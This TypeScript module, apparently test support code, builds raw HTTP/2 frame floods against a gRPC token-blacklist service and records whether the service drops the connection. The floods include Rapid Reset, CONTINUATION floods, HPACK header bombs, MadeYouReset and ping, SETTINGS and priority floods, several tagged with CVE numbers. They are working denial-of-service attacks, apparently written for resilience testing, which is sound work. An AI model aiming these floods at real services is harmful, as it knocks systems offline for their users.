import {
  callHeaders,
  FLAG,
  FRAME,
  frame,
  headerBlock,
  RawHttp2,
  setting,
  streamId,
  uint32,
} from "../support/raw-http2.ts";

export interface Flood {
  /** Frames sent, or streams begun. */
  readonly sent: number;
  /** Whether the service closed the connection. */
  readonly closed: boolean;
}

interface Extent {
  readonly count: number;
  /** Whether responses are read. */
  readonly read?: boolean;
  /** How long to wait for the connection's end. */
  readonly withinMs?: number;
  readonly tls?: boolean;
}

async function flood(
  address: string,
  make: (index: number) => Buffer,
  { count, read = true, withinMs = 2000, tls = false }: Extent,
): Promise<Flood> {
  const http2 = await RawHttp2.open(address, { tls });
  try {
    if (!read) http2.socket.pause();
    const sent = await Promise.race([
      http2.flood(make, { count }),
      // A service that stops reading, since it cannot write, delays the sender.
      new Promise<number>((resolve) => setTimeout(() => resolve(-1), 4 * withinMs).unref()),
    ]);
    return { sent, closed: await http2.closesWithin(withinMs) };
  } finally {
    http2.close();
  }
}

const CALL = callHeaders("/grpc.health.v1.Health/Watch");
const CANCEL = Buffer.from([0, 0, 0, 8]);

/** Begins streams and resets each at once (CVE-2023-44487). */
export function rapidResets(address: string, extent: Partial<Extent> = {}): Promise<Flood> {
  const beginAndReset = (index: number) =>
    Buffer.concat([
      frame(FRAME.headers, FLAG.endHeaders, streamId(index), CALL),
      frame(FRAME.reset, 0, streamId(index), CANCEL),
    ]);
  return flood(address, beginAndReset, { count: 20_000, ...extent });
}

/** Begins headers and never ends them (CVE-2024-27983): one HEADERS, then CONTINUATION after CONTINUATION. */
export function continuations(address: string, extent: Partial<Extent> = {}): Promise<Flood> {
  const part = headerBlock(
    Object.fromEntries(Array.from({ length: 100 }, (_, index) => [`x-${index}`, "y".repeat(100)])),
  );
  const next = (index: number) =>
    index === 0 ? frame(FRAME.headers, 0, 1, CALL) : frame(FRAME.continuation, 0, 1, part);
  return flood(address, next, { count: 10_000, ...extent });
}

/** Sends pings without reading the acknowledgements (CVE-2019-9512). */
export function pings(address: string, extent: Partial<Extent> = {}): Promise<Flood> {
  return flood(address, () => frame(FRAME.ping, 0, 0, Buffer.alloc(8)), {
    count: 500_000,
    read: false,
    ...extent,
  });
}

/** Sends SETTINGS without reading the acknowledgements (CVE-2019-9515). */
export function settings(address: string, extent: Partial<Extent> = {}): Promise<Flood> {
  return flood(address, () => frame(FRAME.settings, 0, 0), { count: 500_000, read: false, ...extent });
}

/** Sends DATA frames without data on one stream (CVE-2019-9518). */
export function emptyData(address: string, extent: Partial<Extent> = {}): Promise<Flood> {
  const next = (index: number) =>
    index === 0 ? frame(FRAME.headers, FLAG.endHeaders, 1, CALL) : frame(FRAME.data, 0, 1);
  return flood(address, next, { count: 500_000, ...extent });
}

/** Adds a value of 4 kB to the compression table, and references it `references` times per stream: with 1,000 some 4 MB in 1 kB. */
export function headerBombs(
  address: string,
  { references = 1000, ...extent }: Partial<Extent> & { references?: number } = {},
): Promise<Flood> {
  const planted = Buffer.concat([
    CALL,
    Buffer.from([0x40]),
    headerBlock({ "x-bomb": "z".repeat(3900) }).subarray(1),
  ]);
  // 62 is the newest entry of the table.
  const bomb = Buffer.concat([CALL, Buffer.alloc(references, 0x80 | 62)]);
  const next = (index: number) =>
    frame(FRAME.headers, FLAG.endHeaders, streamId(index), index === 0 ? planted : bomb);
  return flood(address, next, { count: 5000, ...extent });
}

/** Begins streams with headers near the size limit, and sends nothing more on them. */
export function openStreams(address: string, extent: Partial<Extent> = {}): Promise<Flood> {
  const next = (index: number) => {
    const large = callHeaders("/grpc.health.v1.Health/Watch", { "x-large": `${index}`.padEnd(15_000, "v") });
    return frame(FRAME.headers, FLAG.endHeaders, streamId(index), large);
  };
  return flood(address, next, { count: 3000, ...extent });
}

/** Makes the service reset each stream, by a WINDOW_UPDATE of 0 (CVE-2025-8671): in the service's counts the stream has ended. */
export function madeResets(address: string, extent: Partial<Extent> = {}): Promise<Flood> {
  const beginAndBreak = (index: number) =>
    Buffer.concat([
      frame(FRAME.headers, FLAG.endHeaders, streamId(index), CALL),
      frame(FRAME.windowUpdate, 0, streamId(index), uint32(0)),
    ]);
  return flood(address, beginAndBreak, { count: 20_000, ...extent });
}

/** Sets priorities of streams that do not exist (CVE-2019-9513), a different one each time. */
export function priorities(address: string, extent: Partial<Extent> = {}): Promise<Flood> {
  const next = (index: number) =>
    frame(
      FRAME.priority,
      0,
      streamId(index % 10_000),
      Buffer.concat([uint32(streamId((index * 7 + 1) % 10_000)), Buffer.from([index % 256])]),
    );
  return flood(address, next, { count: 500_000, ...extent });
}

/** Enlarges the connection's window by one byte at a time. */
export function windowUpdates(address: string, extent: Partial<Extent> = {}): Promise<Flood> {
  return flood(address, () => frame(FRAME.windowUpdate, 0, 0, uint32(1)), { count: 500_000, ...extent });
}

/** Begins a thousand streams, then changes the initial window repeatedly, which changes each of their windows. */
export function windowChanges(address: string, extent: Partial<Extent> = {}): Promise<Flood> {
  const next = (index: number) =>
    index < 1000
      ? frame(FRAME.headers, FLAG.endHeaders, streamId(index), CALL)
      : frame(FRAME.settings, 0, 0, setting(4, index % 2 === 0 ? 0 : 65_535));
  return flood(address, next, { count: 100_000, ...extent });
}

/** Sends frames of an unknown type, and GOAWAY in between, both of which must be ignored. */
export function unknownFrames(address: string, extent: Partial<Extent> = {}): Promise<Flood> {
  const goaway = frame(FRAME.goaway, 0, 0, Buffer.alloc(8));
  const next = (index: number) => (index % 2 === 0 ? frame(0xbe, 0, 0, Buffer.alloc(64)) : goaway);
  return flood(address, next, { count: 500_000, ...extent });
}

/** Begins calls and ends each with trailers near the size limit. */
export function trailers(address: string, extent: Partial<Extent> = {}): Promise<Flood> {
  const large = headerBlock({ "x-trailer": "t".repeat(15_000) });
  const next = (index: number) =>
    Buffer.concat([
      frame(FRAME.headers, FLAG.endHeaders, streamId(index), CALL),
      frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, streamId(index), large),
    ]);
  return flood(address, next, { count: 5000, ...extent });
}

/** Begins calls with more header fields than allowed, each of a few bytes. */
export function manyHeaders(address: string, extent: Partial<Extent> = {}): Promise<Flood> {
  const fields = headerBlock(
    Object.fromEntries(Array.from({ length: 1000 }, (_, index) => [`x-${index}`, "y"])),
  );
  const next = (index: number) =>
    frame(FRAME.headers, FLAG.endHeaders, streamId(index), Buffer.concat([CALL, fields]));
  return flood(address, next, { count: 5000, ...extent });
}

/**
 * Makes complete calls that need no credential, or lack one, each with a different name of service, method and host.
 */
export function names(address: string, extent: Partial<Extent> = {}): Promise<Flood> {
  const next = (index: number) => {
    const path = `/${"unknown".padEnd(index % 200, "u")}.Service${index}/Method${index}`;
    const headers = callHeaders(path, { "user-agent": `agent-${index}`, [`x-${index}`]: "y" });
    return frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, streamId(index), headers);
  };
  return flood(address, next, { count: 20_000, ...extent });
}

/** Makes complete calls of a method that needs a credential, without one. With `read: false` the responses are not read. */
export function unauthenticatedCalls(
  address: string,
  {
    path = "/tokenblacklist.v1.TokenBlacklist/Blacklist",
    ...extent
  }: Partial<Extent> & { path?: string } = {},
): Promise<Flood> {
  const call = callHeaders(path);
  const next = (index: number) =>
    Buffer.concat([
      frame(FRAME.headers, FLAG.endHeaders, streamId(index), call),
      frame(FRAME.data, FLAG.endStream, streamId(index), Buffer.alloc(5)),
    ]);
  return flood(address, next, { count: 20_000, ...extent });
}

/** Makes complete calls whose deadline, path and metadata have the maximum size, or are absurd. */
export function hugeHeaders(address: string, extent: Partial<Extent> = {}): Promise<Flood> {
  const kinds = [
    callHeaders("/tokenblacklist.v1.TokenBlacklist/List", { "grpc-timeout": "99999999H" }),
    callHeaders("/tokenblacklist.v1.TokenBlacklist/List", { "grpc-timeout": "9".repeat(15_000) }),
    callHeaders(`/${"p".repeat(15_000)}`),
    callHeaders("/tokenblacklist.v1.TokenBlacklist/List", { "x-any-bin": "A".repeat(15_000) }),
    callHeaders("/tokenblacklist.v1.TokenBlacklist/List", { authorization: `Bearer ${"e".repeat(15_000)}` }),
    callHeaders("/tokenblacklist.v1.TokenBlacklist/List", { traceparent: "0".repeat(15_000) }),
  ];
  const next = (index: number) =>
    frame(
      FRAME.headers,
      FLAG.endHeaders | FLAG.endStream,
      streamId(index),
      kinds[index % kinds.length] as Buffer,
    );
  return flood(address, next, { count: 5000, ...extent });
}
